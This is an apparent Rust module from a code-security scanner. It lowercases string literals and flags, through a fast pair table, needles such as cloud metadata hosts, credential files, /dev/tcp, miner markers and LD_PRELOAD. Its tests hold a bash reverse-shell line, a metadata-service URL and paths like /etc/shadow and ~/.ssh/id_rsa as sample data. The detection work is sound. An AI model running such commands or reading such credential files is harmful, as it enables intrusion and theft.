//! Which needle lists occur in a lower-cased string literal, as bits: one
//! pass per literal over a table of the needles' first two bytes (made once
//! per process), instead of a `contains` per needle in each family that
//! reads the literals (a file has hundreds of literals, and the lists below
//! hold some sixty needles). Every position is tried, so a needle inside
//! another list's match still counts: a bit is set exactly when some needle
//! of its list occurs.

use std::borrow::Cow;
use std::rc::Rc;
use std::sync::OnceLock;

use super::names::{CREDENTIAL_STORES, LOGIN_FILES, METADATA_HOSTS, MINER_MARKERS};
use super::{Analyzer, Node};

/// Every string literal lower-cased (decoded when constant, else as
/// written), and the needle lists each holds. Made once and shared: the
/// configuration families and the string checks each lower-cased and
/// searched every literal themselves.
pub(super) struct Lowered<'t> {
    pub texts: Vec<(Node<'t>, Cow<'t, str>)>,
    /// For each of `texts`, [`needles_in`] of it.
    pub found: Vec<u32>,
    /// `texts` joined by newlines, made at the first [`Lowered::any_holds`].
    joined: std::cell::OnceCell<String>,
}

impl Lowered<'_> {
    /// Whether some literal holds `needle`. The hidden-destination checks
    /// ask this of each host a send reaches, and searched every literal in
    /// turn (a searcher set up per literal); one search of the literals
    /// joined by newlines gives the same answer for a needle without a
    /// newline, which cannot span two of them.
    pub fn any_holds(&self, needle: &str) -> bool {
        if needle.is_empty() || needle.contains('\n') {
            return self.texts.iter().any(|(_, t)| t.contains(needle));
        }
        let joined = self
            .joined
            .get_or_init(|| join_lines(self.texts.iter().map(|(_, t)| &**t)));
        lines_hold(joined, needle)
    }
}

/// The texts, each followed by a newline.
fn join_lines<'a>(texts: impl Iterator<Item = &'a str> + Clone) -> String {
    let len = texts.clone().map(|t| t.len() + 1).sum();
    let mut all = String::with_capacity(len);
    for t in texts {
        all.push_str(t);
        all.push('\n');
    }
    all
}

/// Whether one of the texts [`join_lines`] joined into `joined` holds
/// `needle`, a needle without a newline.
fn lines_hold(joined: &str, needle: &str) -> bool {
    memchr::memmem::find(joined.as_bytes(), needle.as_bytes()).is_some()
}

impl<'t> Analyzer<'t> {
    /// The literals lower-cased, with their needles (see [`Lowered`]).
    pub(super) fn lowered(&self) -> Rc<Lowered<'t>> {
        self.lowered
            .get_or_init(|| {
                let texts: Vec<(Node<'t>, Cow<'t, str>)> = self
                    .strings
                    .iter()
                    .zip(self.decoded_values())
                    .map(|(s, v)| (*s, self.lower_literal(*s, v)))
                    .collect();
                let found = texts.iter().map(|(_, t)| needles_in(t)).collect();
                Rc::new(Lowered {
                    texts,
                    found,
                    joined: std::cell::OnceCell::new(),
                })
            })
            .clone()
    }

    /// The lower-cased form of literal `s` (its decoded value `v`, or its
    /// text): the same text, borrowed, when it has no capital letter (most
    /// literals; each was copied).
    fn lower_literal(&self, s: Node<'t>, v: &Option<Cow<'t, str>>) -> Cow<'t, str> {
        let text = v.as_deref().unwrap_or_else(|| self.text(s));
        if text.bytes().any(|b| b.is_ascii_uppercase()) {
            return Cow::Owned(text.to_ascii_lowercase());
        }
        match v {
            Some(Cow::Borrowed(b)) => Cow::Borrowed(b),
            Some(Cow::Owned(o)) => Cow::Owned(o.clone()),
            None => Cow::Borrowed(self.text(s)),
        }
    }
}

pub(super) const METADATA: u32 = 1;
pub(super) const CREDENTIAL: u32 = 1 << 1;
pub(super) const DEV_TCP: u32 = 1 << 2;
pub(super) const MINER: u32 = 1 << 3;
pub(super) const PRELOAD: u32 = 1 << 4;
pub(super) const DOCKER: u32 = 1 << 5;
/// [`super::database::CATALOGUES`].
pub(super) const CATALOGUE: u32 = 1 << 6;
/// [`super::database::FOREIGN_DATABASES`].
pub(super) const FOREIGN_DB: u32 = 1 << 7;
/// [`PASSWORD_FIELDS`].
pub(super) const PASSWORD_FORM: u32 = 1 << 8;
/// [`PROXY_VARIABLES`].
pub(super) const PROXY_VAR: u32 = 1 << 9;
/// [`super::covert::DROP_SERVICES`].
pub(super) const DROP_SERVICE: u32 = 1 << 10;
/// A Kubernetes API path (see `strings::kube_workloads`).
pub(super) const KUBE_API: u32 = 1 << 11;
/// [`super::supply::INDEX_OPTIONS`].
pub(super) const INDEX_OPTION: u32 = 1 << 12;
/// [`super::supply::MANIFESTS`].
pub(super) const MANIFEST: u32 = 1 << 13;
/// [`super::browser::TAKEOVER_SETTINGS`].
pub(super) const TAKEOVER: u32 = 1 << 14;
/// [`METADATA_DESCRIBES`].
pub(super) const DESCRIBES: u32 = 1 << 15;
/// [`NAT_TOOLS`]. (The bits were a `u16` up to here, then full.)
pub(super) const NAT_TOOL: u32 = 1 << 16;
/// [`GRANT_WORDS`].
pub(super) const GRANT: u32 = 1 << 17;
/// [`REMOTE_NODE`].
pub(super) const NODE: u32 = 1 << 18;

/// The programs that write NAT rules (see `traffic::nat_rules`).
pub(super) const NAT_TOOLS: &[&str] = &["iptables", "nft "];

/// Words every statement that makes an all-powerful account holds (see
/// `database::grants_all`).
pub(super) const GRANT_WORDS: &[&str] = &["grant", "superuser"];

/// WMIC's remote target (see `remote::remote_program`).
pub(super) const REMOTE_NODE: &[&str] = &["/node:"];

/// Paths of the metadata service that describe the instance (see
/// `strings::metadata_without_credentials`).
pub(super) const METADATA_DESCRIBES: &[&str] = &[
    "placement/",
    "instance-identity/document",
    "instance-id",
    "instance-type",
    "/zone",
    "/region",
];

/// A password field of an HTML form.
pub(super) const PASSWORD_FIELDS: &[&str] =
    &["type=\"password\"", "type='password'", "type=password"];

/// Environment variables that set a web proxy.
pub(super) const PROXY_VARIABLES: &[&str] = &["http_proxy", "https_proxy", "all_proxy"];

/// Every needle, with its list's bit.
fn needle_table() -> Vec<(&'static str, u32)> {
    let lists: [(&[&'static str], u32); 20] = [
        (METADATA_HOSTS, METADATA),
        (LOGIN_FILES, CREDENTIAL),
        (CREDENTIAL_STORES, CREDENTIAL),
        (&["/dev/tcp/", "/dev/udp/"], DEV_TCP),
        (MINER_MARKERS, MINER),
        (&["ld_preload", "/etc/ld.so.preload"], PRELOAD),
        (&["docker.sock"], DOCKER),
        (super::database::CATALOGUES, CATALOGUE),
        (super::database::FOREIGN_DATABASES, FOREIGN_DB),
        (PASSWORD_FIELDS, PASSWORD_FORM),
        (PROXY_VARIABLES, PROXY_VAR),
        (super::covert::DROP_SERVICES, DROP_SERVICE),
        (&["/api/v1", "/apis/"], KUBE_API),
        (super::supply::INDEX_OPTIONS, INDEX_OPTION),
        (super::supply::MANIFESTS, MANIFEST),
        (super::browser::TAKEOVER_SETTINGS, TAKEOVER),
        (METADATA_DESCRIBES, DESCRIBES),
        (NAT_TOOLS, NAT_TOOL),
        (GRANT_WORDS, GRANT),
        (REMOTE_NODE, NODE),
    ];
    lists
        .iter()
        .flat_map(|(l, bit)| l.iter().map(move |n| (*n, *bit)))
        .collect()
}

/// Needles that fit the pair table: one bit of a `u128` each.
const PAIRED: usize = 128;

/// The needles, and for each byte value the needles that start with it
/// (`first`) or have it second (`second`), as bit sets: a position can start
/// a needle only if the sets of its two bytes meet. An Aho-Corasick automaton
/// gave the same answers, but building it cost every fresh process about
/// 0.6 M instructions, a quarter of a millisecond's work, for a scan no faster
/// on literals this short.
struct Pairs {
    needles: Vec<(&'static str, u32)>,
    first: [u128; 256],
    second: [u128; 256],
    /// Needles the table cannot hold (shorter than two bytes, or past
    /// [`PAIRED`]): searched one by one.
    rest: Vec<(&'static str, u32)>,
}

impl Pairs {
    /// The pair table of `table`'s needles.
    fn new(table: Vec<(&'static str, u32)>) -> Self {
        let mut p = Pairs {
            needles: Vec::new(),
            first: [0; 256],
            second: [0; 256],
            rest: Vec::new(),
        };
        for (n, bit) in table {
            match n.as_bytes() {
                [a, b, ..] if p.needles.len() < PAIRED => {
                    let one = 1u128 << p.needles.len();
                    p.first[usize::from(*a)] |= one;
                    p.second[usize::from(*b)] |= one;
                    p.needles.push((n, bit));
                }
                _ => p.rest.push((n, bit)),
            }
        }
        p
    }

    /// Which of the needle lists occur in `text`, as bits.
    fn scan(&self, text: &str) -> u32 {
        let bytes = text.as_bytes();
        let mut found = 0;
        for (i, pair) in bytes.windows(2).enumerate() {
            let mut maybe = self.first[usize::from(pair[0])] & self.second[usize::from(pair[1])];
            while maybe != 0 {
                let j = maybe.trailing_zeros() as usize;
                maybe &= maybe - 1;
                if let Some((n, bit)) = self.needles.get(j) {
                    if bytes[i..].starts_with(n.as_bytes()) {
                        found |= bit;
                    }
                }
            }
        }
        self.rest
            .iter()
            .filter(|(n, _)| text.contains(n))
            .fold(found, |acc, (_, bit)| acc | bit)
    }
}

fn pairs() -> &'static Pairs {
    static PAIRS: OnceLock<Pairs> = OnceLock::new();
    PAIRS.get_or_init(|| Pairs::new(needle_table()))
}

/// Which needle lists occur in `lower` (already lower-cased), as bits.
pub(super) fn needles_in(lower: &str) -> u32 {
    pairs().scan(lower)
}

/// Which byte pairs a short text holds, hashed into 256 bits: a needle
/// whose first or last pair is missing cannot occur in it. The path checks
/// (`taxonomy`) search each path for one to two hundred fixed needles, and
/// `str::contains` set a searcher up for every one (about a hundred
/// instructions each, most of a path judgement); the fingerprint is made once
/// per path and turns almost every needle away in a few instructions. No
/// needle that occurs is ever turned away, so answers do not change.
pub(super) struct Grams([u64; 4]);

impl Grams {
    pub fn of(text: &str) -> Self {
        let mut bits = [0u64; 4];
        for w in text.as_bytes().windows(2) {
            let h = pair_hash(w[0], w[1]);
            bits[h >> 6] |= 1 << (h & 63);
        }
        Grams(bits)
    }

    fn has_pair(&self, a: u8, b: u8) -> bool {
        let h = pair_hash(a, b);
        self.0[h >> 6] & (1 << (h & 63)) != 0
    }

    /// Whether `needle` may occur in the text (it does not when false).
    pub fn may_hold(&self, needle: &str) -> bool {
        match needle.as_bytes() {
            [a, b, .., y, z] => self.has_pair(*a, *b) && self.has_pair(*y, *z),
            [a, b] => self.has_pair(*a, *b),
            _ => true,
        }
    }

    /// `text.contains(needle)`, `text` being what `self` was made of.
    pub fn contains(&self, text: &str, needle: &str) -> bool {
        self.may_hold(needle) && text.contains(needle)
    }
}

fn pair_hash(a: u8, b: u8) -> usize {
    (usize::from(a).wrapping_mul(31) ^ usize::from(b)) & 255
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One search of the joined literals answers as a search of each.
    #[test]
    fn joined_lines_hold_what_one_holds() {
        let texts = ["https://evil.example/x", "multi\nline.example", "", "a.b"];
        let joined = join_lines(texts.iter().copied());
        for needle in [
            "evil.example",
            "line.example",
            "multi",
            "a.b",
            "x\nmulti",
            "/xmulti",
            "b.c",
            "example/x",
        ] {
            if needle.contains('\n') {
                continue;
            }
            let each = texts.iter().any(|t| t.contains(needle));
            assert_eq!(lines_hold(&joined, needle), each, "{needle}");
        }
    }

    /// Each bit is set exactly when one of its list's needles occurs.
    #[test]
    fn bits_match_plain_search() {
        let samples = [
            "select name from information_schema.tables",
            "<input type=\"password\" name=pw>",
            "export https_proxy=http://10.0.0.1:3128",
            "~/.thunderbird/x/global-messages-db.sqlite",
            "169.254.169.254/latest/meta-data",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "nothing to see",
            "",
            "i",
            "id_rsaid_rsa",
            "x/etc/shadow",
            "ld_preloa",
        ];
        for s in samples {
            let plain = needle_table()
                .iter()
                .filter(|(n, _)| s.contains(n))
                .fold(0, |acc, (_, bit)| acc | bit);
            assert_eq!(needles_in(s), plain, "{s}");
        }
    }

    /// Every needle found alone, at the end of a text and inside another:
    /// the pair table misses none.
    #[test]
    fn every_needle_found() {
        for (n, bit) in needle_table() {
            for s in [n.to_string(), format!("ab{n}"), format!("a{n}b")] {
                assert_ne!(needles_in(&s) & bit, 0, "{s}");
            }
        }
        assert!(pairs().rest.is_empty(), "all needles fit the table");
    }
    /// The fingerprint never turns away a needle that occurs.
    #[test]
    fn grams_never_miss() {
        let texts = [
            "~/.ssh/id_rsa",
            "/etc/cron.d/x",
            "ab",
            "a",
            "",
            "/etc/shadow",
        ];
        for t in texts {
            let g = Grams::of(t);
            for i in 0..t.len() {
                for j in i..=t.len() {
                    assert!(g.contains(t, &t[i..j]), "{t} {}", &t[i..j]);
                }
            }
        }
        assert!(!Grams::of("/tmp/x").contains("/tmp/x", "/etc/shadow"));
    }
}
